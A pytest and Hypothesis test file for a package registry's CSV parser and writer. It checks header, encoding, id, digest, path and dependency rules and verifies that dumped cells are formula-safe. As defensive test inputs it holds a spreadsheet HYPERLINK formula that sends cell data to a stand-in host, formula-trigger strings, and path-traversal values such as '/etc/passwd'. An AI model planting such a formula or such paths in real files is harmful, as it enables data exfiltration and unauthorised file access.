"""The CSV registries: hostile files, row rules, id rules, exact round trips, formula safety."""

from __future__ import annotations

import csv
import hashlib
import io
import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from control_plane.errors import UsageError
from control_plane.findings import Finding
from control_plane.registry import (
    FILE_COLUMNS,
    ID_PATTERN,
    PACKAGE_COLUMNS,
    Dependency,
    FileRow,
    OutputType,
    PackageRow,
    Parsed,
    RegistryLimits,
    SourceType,
    Tier,
    dump_files,
    dump_packages,
    file_row_id,
    format_dependencies,
    normalise_id,
    parse_dependencies,
    parse_dependency,
    parse_files,
    parse_packages,
    validate_package_id,
)
from control_plane.registry.csvio import FORMULA_TRIGGERS, escape_cell, unescape_cell
from control_plane.versions import Comparison, Operator, Version, VersionConstraint

DIGEST = "sha256:" + "ab" * 32
HEX = "cd" * 32
PACKAGE_HEADER = ",".join(PACKAGE_COLUMNS)
FILE_HEADER = ",".join(FILE_COLUMNS)


def package_fields(**overrides: str) -> list[str]:
    fields = {
        "id": "PKG-A",
        "name": "a",
        "version": "1.0.0",
        "source": "packages_store/a.tar.gz",
        "source_type": "tar",
        "digest": DIGEST,
        "output_type": "extension",
        "output_path": "",
        "dependencies": "",
        "tier": "",
        "deprecated": "",
        "replacement": "",
        "card_id": "",
        "installed_version": "",
        "installed_digest": "",
    }
    fields.update(overrides)
    return [fields[name] for name in PACKAGE_COLUMNS]


def file_fields(**overrides: str) -> list[str]:
    fields = {
        "id": "",
        "path": "docs/a.txt",
        "sha256": HEX,
        "owner": "PKG-A",
        "kind": "file",
        "description": "",
    }
    fields.update(overrides)
    if not fields["id"]:
        fields["id"] = file_row_id(fields["path"])
    return [fields[name] for name in FILE_COLUMNS]


def table(header: str, rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writerows(rows)
    return (header + "\n" + out.getvalue()).encode("utf-8")


GOOD_PACKAGE = package_fields(id="PKG-GOOD")
GOOD_LINE = ",".join(GOOD_PACKAGE)


# --- structural problems: the whole file is refused ------------------------------------------

STRUCTURAL: list[tuple[str, bytes, RegistryLimits, str]] = [
    ("empty-file", b"", RegistryLimits(), "empty file"),
    ("only-blank-lines", b"\n\n", RegistryLimits(), "empty file"),
    (
        "duplicate-header-column",
        (PACKAGE_HEADER.replace("name", "id") + "\n").encode(),
        RegistryLimits(),
        "duplicated 'id'",
    ),
    (
        "missing-column",
        (PACKAGE_HEADER.replace(",tier", "") + "\n").encode(),
        RegistryLimits(),
        "missing tier",
    ),
    (
        "reordered-header",
        (PACKAGE_HEADER.replace("id,name", "name,id") + "\n").encode(),
        RegistryLimits(),
        "columns out of order",
    ),
    (
        "unexpected-column",
        (PACKAGE_HEADER + ",extra\n").encode(),
        RegistryLimits(),
        "unexpected 'extra'",
    ),
    (
        "header-case",
        (PACKAGE_HEADER.upper() + "\n").encode(),
        RegistryLimits(),
        "header must be exactly",
    ),
    (
        "header-space",
        (PACKAGE_HEADER.replace(",", ", ") + "\n").encode(),
        RegistryLimits(),
        "header must be exactly",
    ),
    (
        "ragged-short-row",
        (PACKAGE_HEADER + "\nPKG-A,a,1.0.0\n").encode(),
        RegistryLimits(),
        ":2: row has 3 fields",
    ),
    (
        "ragged-long-row",
        (PACKAGE_HEADER + "\n" + GOOD_LINE + ",x\n").encode(),
        RegistryLimits(),
        f"row has {len(PACKAGE_COLUMNS) + 1} fields",
    ),
    (
        "unterminated-quote",
        (PACKAGE_HEADER + '\nPKG-A,"a\n').encode(),
        RegistryLimits(),
        ":2: unterminated",
    ),
    (
        "unterminated-quote-later-line",
        (PACKAGE_HEADER + "\n" + GOOD_LINE + '\nPKG-B,"a,\n\n\n').encode(),
        RegistryLimits(),
        ":3: unterminated",
    ),
    (
        "text-after-quote",
        (PACKAGE_HEADER + '\n"PKG-A"x,a\n').encode(),
        RegistryLimits(),
        ":2: malformed CSV",
    ),
    (
        "nul-byte",
        (PACKAGE_HEADER + "\n" + GOOD_LINE.replace("a", "a\x00", 1) + "\n").encode(),
        RegistryLimits(),
        ":2: contains a NUL",
    ),
    ("utf16", PACKAGE_HEADER.encode("utf-16"), RegistryLimits(), "NUL"),
    (
        "non-utf8",
        (PACKAGE_HEADER + "\n").encode() + b"PKG-A,\xff\xfe\n",
        RegistryLimits(),
        ":2: not valid UTF-8",
    ),
    (
        "overlong-utf8",
        (PACKAGE_HEADER + "\n").encode() + b"PKG-A,\xc0\xaf\n",
        RegistryLimits(),
        "not valid UTF-8",
    ),
    (
        "oversize-field",
        table(PACKAGE_HEADER, [package_fields(name="n" * 8193)]),
        RegistryLimits(),
        ":2: field name is larger than 8192 bytes",
    ),
    (
        "oversize-field-multibyte",
        table(
            PACKAGE_HEADER, [package_fields(name="\u20ac" * 3000)]
        ),  # 3000 characters, 9000 bytes
        RegistryLimits(),
        "field name is larger than 8192 bytes",
    ),
    (
        "field-beyond-csv-module-limit",
        table(PACKAGE_HEADER, [package_fields(name="n" * 200_000)]),
        RegistryLimits(max_field_bytes=1 << 20),
        "larger than the CSV reader's limit",
    ),
    (
        "oversize-file",
        table(PACKAGE_HEADER, [GOOD_PACKAGE]),
        RegistryLimits(max_file_bytes=100),
        "larger than the limit of 100",
    ),
    (
        "too-many-rows",
        table(PACKAGE_HEADER, [GOOD_PACKAGE, package_fields(id="PKG-B")]),
        RegistryLimits(max_rows=1),
        ":3: more than 1 rows",
    ),
    (
        "blank-line-inside",
        (PACKAGE_HEADER + "\n\n" + GOOD_LINE + "\n").encode(),
        RegistryLimits(),
        ":2: blank line",
    ),
    (
        "blank-line-before-header",
        ("\n" + PACKAGE_HEADER + "\n").encode(),
        RegistryLimits(),
        ":1: blank line",
    ),
    (
        "bare-cr-in-field",
        (PACKAGE_HEADER + "\n" + GOOD_LINE.replace("a", "a\rb", 1) + "\n").encode(),
        RegistryLimits(),
        "row has",
    ),
    (
        "whitespace-line-at-end",
        (PACKAGE_HEADER + "\n" + GOOD_LINE + "\n \n").encode(),
        RegistryLimits(),
        ":3: row has 1 fields",
    ),
]


@pytest.mark.parametrize(
    ("data", "limits", "message"),
    [case[1:] for case in STRUCTURAL],
    ids=[case[0] for case in STRUCTURAL],
)
def test_structural_problems_refuse_the_file(
    data: bytes, limits: RegistryLimits, message: str
) -> None:
    with pytest.raises(UsageError, match=re.escape(message)) as caught:
        parse_packages(data, limits=limits)
    assert str(caught.value).startswith("packages_registry.csv")
    assert "\n" not in str(caught.value)


def test_files_registry_header_is_checked_too() -> None:
    with pytest.raises(UsageError, match=r"^control_plane_registry\.csv:1: header must be exactly"):
        parse_files(table(PACKAGE_HEADER, []))


def test_csv_module_global_limit_is_left_alone() -> None:
    before = csv.field_size_limit()
    parse_packages(
        table(PACKAGE_HEADER, [GOOD_PACKAGE]), limits=RegistryLimits(max_field_bytes=1 << 20)
    )
    assert csv.field_size_limit() == before


@pytest.mark.parametrize(
    "data",
    [
        b"\xef\xbb\xbf" + (PACKAGE_HEADER + "\n" + GOOD_LINE + "\n").encode(),
        (PACKAGE_HEADER + "\r\n" + GOOD_LINE + "\r\n").encode(),
        (PACKAGE_HEADER + "\n" + GOOD_LINE).encode(),
        (PACKAGE_HEADER + "\n" + GOOD_LINE + "\n\n\r\n\n").encode(),
        table(PACKAGE_HEADER, [GOOD_PACKAGE]),
    ],
    ids=["bom", "crlf", "no-final-newline", "trailing-blank-lines", "all-quoted"],
)
def test_tolerated_variations(data: bytes) -> None:
    parsed = parse_packages(data)
    assert parsed.findings == ()
    assert [row.id for row in parsed.rows] == ["PKG-GOOD"]


def test_header_only_is_an_empty_registry() -> None:
    assert parse_packages((PACKAGE_HEADER + "\n").encode()) == Parsed((), ())
    assert parse_files((FILE_HEADER + "\n").encode()) == Parsed((), ())


# --- row-level problems: the row is dropped and reported ----------------------------------------

P = package_fields
PACKAGE_ROW_CASES: list[tuple[str, list[list[str]], str]] = [
    ("id-lowercase", [P(id="pkg-a")], "id-format"),
    ("id-empty", [P(id="")], "id-format"),
    ("id-double-separator", [P(id="PKG--A")], "id-format"),
    ("id-leading-digit", [P(id="1PKG")], "id-format"),
    ("id-trailing-space", [P(id="PKG-A ")], "id-format"),
    ("id-trailing-newline", [P(id="PKG-A\n")], "id-format"),
    ("id-non-ascii", [P(id="PKG-\u00c4")], "id-format"),
    ("id-too-long", [P(id="P" * 129)], "id-format"),
    ("id-exact-duplicate", [P(id="PKG-A"), P(id="PKG-A")], "id-duplicate"),
    ("id-lookalike-separator", [P(id="PKG-A"), P(id="PKG_A")], "id-duplicate"),
    ("id-lookalike-case", [P(id="PKG-A"), P(id="pkg_a")], "id-duplicate"),
    ("id-lookalike-fullwidth", [P(id="PKG-A"), P(id="\uff30\uff2b\uff27-A")], "id-duplicate"),
    ("digest-upper-hex", [P(digest="sha256:" + "AB" * 32)], "digest-format"),
    ("digest-short", [P(digest="sha256:abc")], "digest-format"),
    ("digest-no-prefix", [P(digest="ab" * 32)], "digest-format"),
    ("digest-other-algorithm", [P(digest="md5:" + "ab" * 32)], "digest-format"),
    ("version-partial", [P(version="1.0")], "version-format"),
    ("version-v-prefix", [P(version="v1.0.0")], "version-format"),
    ("source-type-zip", [P(source_type="zip")], "source-type"),
    ("source-type-case", [P(source_type="TAR")], "source-type"),
    ("source-absolute", [P(source="/packages_store/a.tar.gz")], "source-path"),
    ("source-dotdot", [P(source="packages_store/../a.tar.gz")], "source-path"),
    ("source-outside-store", [P(source="elsewhere/a.tar.gz")], "source-path"),
    ("source-not-targz", [P(source="packages_store/a.zip")], "source-path"),
    ("source-subdirectory", [P(source="packages_store/sub/a.tar.gz")], "source-path"),
    ("source-no-name", [P(source="packages_store/.tar.gz")], "source-path"),
    ("source-control-char", [P(source="packages_store/a\x1b.tar.gz")], "source-path"),
    ("output-type-unknown", [P(output_type="plugin")], "output-type"),
    ("output-type-empty", [P(output_type="")], "output-type"),
    ("external-relative", [P(output_type="external", output_path="opt/tools")], "output-path"),
    ("external-empty", [P(output_type="external")], "output-path"),
    ("external-dotdot", [P(output_type="external", output_path="/opt/../etc")], "output-path"),
    ("external-home-shorthand", [P(output_type="external", output_path="~/tools")], "output-path"),
    ("extension-absolute", [P(output_path="/etc")], "output-path"),
    ("extension-dotdot", [P(output_path="docs/../../x")], "output-path"),
    ("module-control-char", [P(output_type="module", output_path="a\tb")], "output-path"),
    ("dependency-lowercase-id", [P(dependencies="pkg-b")], "dependencies-format"),
    ("dependency-bad-operator", [P(dependencies="PKG-B>>1")], "dependencies-format"),
    ("dependency-empty-entry", [P(dependencies="PKG-B;")], "dependencies-format"),
    ("dependency-listed-twice", [P(dependencies="PKG-B>=1;PKG_B<2")], "dependencies-format"),
    ("dependency-trailing-comma", [P(dependencies="PKG-B>=1.0,")], "dependencies-format"),
    ("dependency-no-operator", [P(dependencies="PKG-B 1.0")], "dependencies-format"),
    ("tier-unknown", [P(tier="gold")], "tier"),
    ("tier-case", [P(tier="VERIFIED")], "tier"),
    ("installed-version-only", [P(installed_version="1.0.0")], "installed-state"),
    ("installed-digest-only", [P(installed_digest=DIGEST)], "installed-state"),
    (
        "installed-bad-version",
        [P(installed_version="1.0", installed_digest=DIGEST)],
        "installed-state",
    ),
    (
        "installed-bad-digest",
        [P(installed_version="1.0.0", installed_digest="sha256:x")],
        "installed-state",
    ),
]


@pytest.mark.parametrize(
    ("rows", "rule"),
    [case[1:] for case in PACKAGE_ROW_CASES],
    ids=[case[0] for case in PACKAGE_ROW_CASES],
)
def test_package_row_rules(rows: list[list[str]], rule: str) -> None:
    parsed = parse_packages(table(PACKAGE_HEADER, [GOOD_PACKAGE, *rows]))
    assert rule in {finding.rule for finding in parsed.findings}
    assert [row.id for row in parsed.rows] == ["PKG-GOOD"]
    assert all(
        re.fullmatch(r"packages_registry\.csv:\d+", finding.subject) for finding in parsed.findings
    )
    with pytest.raises(UsageError, match=re.escape(str(parsed.findings[0]))):
        parsed.require_clean()


def test_duplicate_finding_names_both_lines() -> None:
    parsed = parse_packages(table(PACKAGE_HEADER, [P(id="PKG-A"), GOOD_PACKAGE, P(id="PKG.A")]))
    assert parsed.findings == (
        Finding(
            "packages_registry.csv:4",
            "id-duplicate",
            "id 'PKG.A' on line 4 duplicates 'PKG-A' on line 2"
            " (a look-alike: equal after case and separator folding)",
        ),
    )
    assert [row.id for row in parsed.rows] == ["PKG-GOOD"]


def test_findings_use_physical_line_numbers_and_count() -> None:
    rows = [
        P(id="PKG-A", name="two\nlines"),
        P(id="PKG-B", digest="bad"),
        P(id="PKG-C", tier="gold"),
    ]
    parsed = parse_packages(table(PACKAGE_HEADER, rows))
    assert [(finding.subject, finding.rule) for finding in parsed.findings] == [
        ("packages_registry.csv:4", "digest-format"),
        ("packages_registry.csv:5", "tier"),
    ]
    assert parsed.findings[0].message.startswith("PKG-B: digest 'bad'")
    with pytest.raises(
        UsageError, match=r"^packages_registry\.csv:4: PKG-B: .* \(and 1 more problem\)$"
    ):
        parsed.require_clean()


def test_valid_package_row_values() -> None:
    rows = [
        P(id="PKG-EXT", output_type="external", output_path="/opt/tools", tier="community"),
        P(id="PKG-MOD", output_type="module", output_path="lib/x",
          dependencies="PKG-EXT>=1,<2.0;PKG-Z", installed_version="0.9.0", installed_digest=DIGEST),
    ]  # fmt: skip
    ext, mod = parse_packages(table(PACKAGE_HEADER, rows)).require_clean()
    assert ext.output_type is OutputType.EXTERNAL
    assert ext.tier is Tier.COMMUNITY
    assert (ext.installed_version, ext.installed_digest) == (None, None)
    assert mod.tier is Tier.COMMUNITY  # an empty cell: a legacy row, not vouched for
    assert mod.source_type is SourceType.TAR
    assert mod.installed_version == Version(0, 9, 0)
    assert format_dependencies(mod.dependencies) == "PKG-EXT>=1.0.0,<2.0.0;PKG-Z"


F = file_fields
FILE_ROW_CASES: list[tuple[str, list[list[str]], str]] = [
    ("sha-upper-hex", [F(sha256="CD" * 32)], "sha256-format"),
    ("sha-empty", [F(sha256="")], "sha256-format"),
    ("sha-short", [F(sha256="cd")], "sha256-format"),
    ("sha-with-prefix", [F(sha256="sha256:" + HEX)], "sha256-format"),
    (
        "reg-cp-with-hash",
        [F(id="REG-CP", path="registries/control_plane_registry.csv")],
        "sha256-format",
    ),
    ("path-absolute", [F(path="/etc/passwd")], "path-format"),
    ("path-dotdot", [F(path="docs/../../x")], "path-format"),
    ("path-empty-component", [F(path="docs//a")], "path-format"),
    ("path-dot-component", [F(path="./docs/a")], "path-format"),
    ("path-trailing-slash", [F(path="docs/")], "path-format"),
    ("path-backslash", [F(path="docs\\a")], "path-format"),
    ("path-control-char", [F(path="docs/a\x7f")], "path-format"),
    ("path-newline", [F(path="docs/a\nb")], "path-format"),
    ("path-empty", [F(id="DOC-1", path="")], "path-format"),
    (
        "path-duplicate",
        [F(id="DOC-1", path="docs/b"), F(id="DOC-2", path="docs/b")],
        "path-duplicate",
    ),
    ("path-duplicate-case", [F(path="docs/B"), F(path="docs/b")], "path-duplicate"),
    ("path-duplicate-nfc", [F(path="docs/caf\u00e9"), F(path="docs/cafe\u0301")], "path-duplicate"),
    ("id-duplicate", [F(id="DOC-1", path="docs/b"), F(id="DOC-1", path="docs/c")], "id-duplicate"),
    ("id-lookalike", [F(id="DOC-1", path="docs/b"), F(id="DOC_1", path="docs/c")], "id-duplicate"),
    ("id-lowercase", [F(id="doc-1", path="docs/b")], "id-format"),
    ("file-id-not-of-path", [F(id=file_row_id("docs/other"), path="docs/b")], "id-format"),
]


@pytest.mark.parametrize(
    ("rows", "rule"),
    [case[1:] for case in FILE_ROW_CASES],
    ids=[case[0] for case in FILE_ROW_CASES],
)
def test_file_row_rules(rows: list[list[str]], rule: str) -> None:
    good = F(path="docs/good")
    parsed = parse_files(table(FILE_HEADER, [good, *rows]))
    assert rule in {finding.rule for finding in parsed.findings}
    assert [row.path for row in parsed.rows] == ["docs/good"]
    assert all(
        re.fullmatch(r"control_plane_registry\.csv:\d+", finding.subject)
        for finding in parsed.findings
    )


def test_reg_cp_is_hashless() -> None:
    rows = [
        F(
            id="REG-CP",
            path="registries/control_plane_registry.csv",
            sha256="",
            owner="system",
            kind="registry",
        )
    ]
    (row,) = parse_files(table(FILE_HEADER, rows)).require_clean()
    assert row == FileRow(
        "REG-CP", "registries/control_plane_registry.csv", "", "system", "registry", ""
    )


# --- ids and dependency text ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["PKG-FMWK-100", "REG-CP", "A", "A1.B_2-C", file_row_id("x"), "P" * 128]
)
def test_valid_ids(text: str) -> None:
    assert validate_package_id(text) == text
    assert ID_PATTERN.match(text)


@pytest.mark.parametrize(
    "text",
    ["", "pkg", "PKG-", "-PKG", "PKG--A", "PKG_-A", "PKG A", "PKG\n", "PKG/A", "\u0420KG",
     "P" * 129, "1A"],
    ids=["empty", "lower", "trailing-sep", "leading-sep", "double-sep", "mixed-sep", "space",
         "newline", "slash", "cyrillic-er", "too-long", "leading-digit"],
)  # fmt: skip
def test_invalid_ids(text: str) -> None:
    with pytest.raises(UsageError, match=r"invalid id .*upper-case ASCII"):
        validate_package_id(text)


def test_normalise_id_and_file_row_id() -> None:
    assert (
        normalise_id("PKG_A.B") == normalise_id("pkg-a-b") == normalise_id("\uff30\uff2b\uff27-A-B")
    )
    assert normalise_id("PKG-A") != normalise_id("PKG-B")
    assert re.fullmatch(r"FILE-[0-9A-F]{16}", file_row_id("docs/a.txt"))
    assert file_row_id("docs/a.txt")[5:] == hashlib.sha256(b"docs/a.txt").hexdigest()[:16].upper()
    assert file_row_id("docs/a.txt") != file_row_id("docs/A.txt")
    with pytest.raises(UsageError, match="not valid Unicode"):
        file_row_id("docs/\udcff")


def test_parse_dependency_for_cli_flags() -> None:
    assert parse_dependency("PKG-A") == Dependency("PKG-A", VersionConstraint())
    dependency = parse_dependency("PKG-A >= 1.2, <2")
    assert str(dependency) == "PKG-A>=1.2.0,<2.0.0"
    assert parse_dependency(str(dependency)) == dependency
    assert parse_dependencies("") == ()
    for bad in ["", ">=1.0", "pkg-a", "PKG-A=1", "PKG-A>=1;PKG-B"]:
        with pytest.raises(UsageError, match="invalid dependency"):
            parse_dependency(bad)


# --- writing: deterministic, exact round trips, formula-safe ------------------------------------

_text = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40
)
_tricky = st.sampled_from(
    ["=1+2", "'", "''x", "-", "@SUM(A1)", "\tx", "\rx", "+", 'a,"b"\nc', "x\r\ny", " "]
)
_free_text = st.one_of(_text, _tricky, st.builds(str.__add__, _tricky, _text))
_component = st.text(
    st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="/\\"),
    min_size=1,
    max_size=12,
).filter(lambda part: part not in (".", ".."))
_upper_alnum = st.text("ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", min_size=1, max_size=5)
_ids = st.builds(
    lambda first, rest: first + "".join(sep + part for sep, part in rest),
    st.sampled_from("ABCPXZ"),
    st.lists(st.tuples(st.sampled_from("-_."), _upper_alnum), max_size=3),
)
_numbers = st.integers(min_value=0, max_value=10**4)
_identifiers = st.one_of(
    _numbers.map(str), st.sampled_from(["alpha", "rc", "x-1", "0a", "-", "B2"])
)
_versions = st.builds(
    Version,
    _numbers,
    _numbers,
    _numbers,
    st.lists(_identifiers, max_size=2).map(tuple),
    st.lists(st.sampled_from(["build", "001", "sha-5", "Z"]), max_size=2).map(tuple),
)
_constraints = st.lists(
    st.builds(Comparison, st.sampled_from(list(Operator)), _versions), max_size=3
).map(lambda clauses: VersionConstraint(tuple(clauses)))
_dependencies = st.lists(
    st.builds(Dependency, _ids, _constraints),
    max_size=3,
    unique_by=lambda d: normalise_id(d.package_id),
).map(tuple)
_digests = st.binary(min_size=32, max_size=32).map(bytes.hex)


@st.composite
def package_rows(draw: st.DrawFn, package_id: str) -> PackageRow:
    output_type = draw(st.sampled_from(list(OutputType)))
    parts = draw(st.lists(_component, min_size=1, max_size=3))
    if output_type is OutputType.EXTERNAL:
        output_path = "/" + "/".join(parts)
    else:
        output_path = draw(st.sampled_from(["", "/".join(parts)]))
    installed = draw(st.booleans())
    return PackageRow(
        id=package_id,
        name=draw(_free_text),
        version=draw(_versions),
        source="packages_store/" + draw(_component) + ".tar.gz",
        source_type=SourceType.TAR,
        digest="sha256:" + draw(_digests),
        output_type=output_type,
        output_path=output_path,
        dependencies=draw(_dependencies),
        tier=draw(st.sampled_from(list(Tier))),
        installed_version=draw(_versions) if installed else None,
        installed_digest="sha256:" + draw(_digests) if installed else None,
    )


_package_lists = st.lists(_ids, max_size=5, unique_by=normalise_id).flatmap(
    lambda ids: st.tuples(*(package_rows(package_id) for package_id in ids))
)


@given(_package_lists)
def test_packages_round_trip(rows: tuple[PackageRow, ...]) -> None:
    data = dump_packages(rows)
    parsed = parse_packages(data)
    assert parsed.findings == ()
    assert parsed.rows == tuple(sorted(rows, key=lambda row: row.id))
    assert dump_packages(reversed(parsed.rows)) == data


@st.composite
def file_rows(draw: st.DrawFn, path: str) -> FileRow:
    row_id = draw(
        st.one_of(st.just(file_row_id(path)), _ids.filter(lambda i: not i.startswith("FILE-")))
    )
    return FileRow(
        id=row_id,
        path=path,
        sha256=draw(_digests),
        owner=draw(_free_text),
        kind=draw(_free_text),
        description=draw(_free_text),
    )


def _path_key(path: str) -> str:
    return unicodedata.normalize("NFC", path).casefold()


_file_lists = (
    st.lists(
        st.lists(_component, min_size=1, max_size=3).map("/".join), max_size=5, unique_by=_path_key
    )
    .flatmap(lambda paths: st.tuples(*(file_rows(path) for path in paths)))
    .filter(lambda rows: len({normalise_id(row.id) for row in rows}) == len(rows))
)


@given(_file_lists)
def test_files_round_trip(rows: tuple[FileRow, ...]) -> None:
    data = dump_files(rows)
    parsed = parse_files(data)
    assert parsed.findings == ()
    assert parsed.rows == tuple(sorted(rows, key=lambda row: row.path))
    assert dump_files(parsed.rows) == data


def _raw_fields(data: bytes) -> list[str]:
    reader = csv.reader(io.StringIO(data.decode("utf-8"), newline=""), strict=True)
    return [field for row in reader for field in row]


def test_formula_cells_are_defused_in_dumped_bytes() -> None:
    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    row = FileRow("DOC-1", "docs/a", HEX, owner="@owner", kind="+kind", description=hostile)
    data = dump_files([row])
    assert (
        b"\n=HYPERLINK" not in data and b",=HYPERLINK" not in data and b',"=HYPERLINK' not in data
    )
    assert "'=HYPERLINK" in data.decode()
    for field in _raw_fields(data):
        assert not field.startswith(FORMULA_TRIGGERS)
    assert parse_files(data).require_clean() == (row,)


@given(_free_text)
def test_escape_cell_round_trip_and_safety(text: str) -> None:
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    assert not escaped.startswith(FORMULA_TRIGGERS)


@given(st.lists(_free_text, min_size=1, max_size=4))
def test_no_dumped_field_starts_a_formula(descriptions: list[str]) -> None:
    rows = [
        FileRow(f"DOC-{index}", f"docs/{index}", HEX, "o", "k", text)
        for index, text in enumerate(descriptions)
    ]
    for field in _raw_fields(dump_files(rows)):
        assert not field.startswith(FORMULA_TRIGGERS)


def test_dump_refuses_unwritable_fields() -> None:
    with pytest.raises(UsageError, match="NUL"):
        dump_files([FileRow("DOC-1", "docs/a", HEX, "o", "k", "a\x00b")])
    with pytest.raises(UsageError, match="not valid Unicode"):
        dump_files([FileRow("DOC-1", "docs/a", HEX, "o", "k", "\udcff")])


def test_dump_is_sorted_and_uses_lf() -> None:
    rows = [
        parse_packages(table(PACKAGE_HEADER, [P(id=i)])).require_clean()[0]
        for i in ("PKG-B", "PKG-A")
    ]
    data = dump_packages(rows)
    assert data.startswith((PACKAGE_HEADER + "\n").encode())
    assert [line.split(b",")[0] for line in data.splitlines()[1:]] == [b"PKG-A", b"PKG-B"]
    assert b"\r" not in data
    assert not data.startswith(b"\xef\xbb\xbf")
